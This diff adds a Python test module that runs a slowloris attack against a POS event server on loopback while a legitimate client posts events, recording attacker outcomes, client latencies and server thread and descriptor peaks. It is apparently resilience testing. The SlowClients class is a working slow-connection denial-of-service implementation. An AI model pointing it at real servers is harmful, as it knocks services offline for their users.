@@ -1,0 +1,157 @@
+"""A slow-client (slowloris) attack on a POS endpoint on loopback, with a legitimate POS posting meanwhile.
+
+`attack(port, pid, count, seconds)` holds `count` connections that dribble one header byte a second each,
+reopening those the server drops, for a bounded time; meanwhile a POS posts a valid event every half
+second. It reports what the attacker saw, what the POS got (statuses, latency), and the server process's
+peak threads and open descriptors. Used by `reliability.py slowclients`; traffic goes to 127.0.0.1 only.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import socket
+import statistics
+import threading
+import time
+import urllib.error
+import urllib.request
+from pathlib import Path
+
+HEAD = b"POST /events HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-Padding: "
+TICK_S = 0.25
+BYTE_EVERY_S = 1.0
+GOOD = {"type": "transaction_start", "till_id": "till-legit", "cashier_id": "c1"}
+
+
+class SlowClients:
+    """Non-blocking sockets on one thread: open, dribble, notice drops, reopen."""
+
+    def __init__(self, port: int, count: int) -> None:
+        self.address, self.count = ("127.0.0.1", port), count
+        self.sockets: dict[socket.socket, list[float | int]] = {}  # socket -> [bytes sent, last send]
+        self.opened = self.dropped = self.replies = self.connect_errors = 0
+
+    def run(self, seconds: float, stop: threading.Event) -> None:
+        deadline = time.monotonic() + seconds
+        try:
+            while time.monotonic() < deadline and not stop.is_set():
+                self._top_up()
+                self._dribble()
+                time.sleep(TICK_S)
+        finally:
+            for sock in self.sockets:
+                sock.close()
+
+    def _top_up(self) -> None:
+        while len(self.sockets) < self.count:
+            sock = socket.socket()
+            sock.setblocking(False)
+            if sock.connect_ex(self.address) not in (0, 115):  # 115: EINPROGRESS
+                self.connect_errors += 1
+                sock.close()
+                return
+            self.sockets[sock] = [0, 0.0]
+            self.opened += 1
+
+    def _dribble(self) -> None:
+        now = time.monotonic()
+        for sock, state in list(self.sockets.items()):
+            if self._closed(sock):
+                self.dropped += 1
+                del self.sockets[sock]
+                sock.close()
+                continue
+            sent, last = state
+            if now - last < BYTE_EVERY_S:
+                continue
+            byte = HEAD[sent : sent + 1] or b"a"
+            with contextlib.suppress(BlockingIOError, OSError):  # still connecting, or gone (seen next tick)
+                sock.send(byte)
+                state[0], state[1] = int(sent) + 1, now
+
+    def _closed(self, sock: socket.socket) -> bool:
+        try:
+            data = sock.recv(4096)
+        except BlockingIOError:
+            return False
+        except OSError:
+            return True
+        if data:
+            self.replies += 1  # a 408; the close follows
+            return False
+        return True
+
+
+def legit_poster(port: int, results: list[tuple[int, float]], stop: threading.Event, every_s: float = 0.5) -> None:
+    """POST a valid event every `every_s`: (status or 0 for a failure, seconds) each."""
+    body = json.dumps(GOOD).encode()
+    while not stop.is_set():
+        started = time.monotonic()
+        request = urllib.request.Request(f"http://127.0.0.1:{port}/events", data=body, method="POST")
+        try:
+            with urllib.request.urlopen(request, timeout=10) as response:
+                status = response.status
+        except urllib.error.HTTPError as error:
+            status = error.code
+        except OSError:
+            status = 0
+        results.append((status, time.monotonic() - started))
+        stop.wait(max(0.0, every_s - (time.monotonic() - started)))
+
+
+def process_usage(pid: int) -> tuple[int, int]:
+    """(threads, open descriptors) of a process."""
+    threads = next(
+        int(line.split()[1])
+        for line in Path(f"/proc/{pid}/status").read_text().splitlines()
+        if line.startswith("Threads:")
+    )
+    return threads, len(list(Path(f"/proc/{pid}/fd").iterdir()))
+
+
+def summarise_posts(results: list[tuple[int, float]]) -> dict:
+    latencies = sorted(seconds * 1000 for status, seconds in results if status == 202)
+    statuses: dict[str, int] = {}
+    for status, _ in results:
+        statuses[str(status or "failed")] = statuses.get(str(status or "failed"), 0) + 1
+    return {
+        "posts": len(results),
+        "accepted": len(latencies),
+        "by_status": statuses,
+        "p50_ms": round(statistics.median(latencies), 1) if latencies else None,
+        "p95_ms": round(latencies[int(0.95 * (len(latencies) - 1))], 1) if latencies else None,
+        "max_ms": round(latencies[-1], 1) if latencies else None,
+    }
+
+
+def attack(port: int, pid: int, count: int, seconds: float) -> dict:
+    """The attack and a legitimate POS side by side, sampling the server's threads and descriptors each second."""
+    stop, posts = threading.Event(), []
+    clients = SlowClients(port, count)
+    threads = [
+        threading.Thread(target=clients.run, args=(seconds, stop)),
+        threading.Thread(target=legit_poster, args=(port, posts, stop)),
+    ]
+    peak = process_usage(pid)
+    for thread in threads:
+        thread.start()
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        time.sleep(1.0)
+        usage = process_usage(pid)
+        peak = (max(peak[0], usage[0]), max(peak[1], usage[1]))
+    stop.set()
+    for thread in threads:
+        thread.join()
+    return {
+        "attacker": {
+            "connections": count,
+            "opened": clients.opened,
+            "dropped_by_server": clients.dropped,
+            "408_replies": clients.replies,
+            "connect_errors": clients.connect_errors,
+        },
+        "server_peak": {"threads": peak[0], "open_fds": peak[1]},
+        "legit_posts": summarise_posts(posts),
+    }
